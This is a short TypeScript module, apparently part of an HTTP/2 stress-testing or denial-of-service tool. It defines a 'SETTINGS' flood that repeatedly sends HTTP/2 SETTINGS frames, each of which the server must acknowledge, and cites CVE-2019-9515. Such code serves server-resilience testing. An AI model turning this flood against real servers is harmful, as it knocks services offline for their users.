import { http2Frame } from "../../flight/http2-bytes.js";
import { type Flood, repeated } from "../flood.js";

/** Settings, each of which has to be acknowledged (CVE-2019-9515). */
export const settings: Flood = {
  name: "SETTINGS",
  start: repeated(http2Frame(4, 0, 0, Buffer.from("000300000064", "hex"))),
};
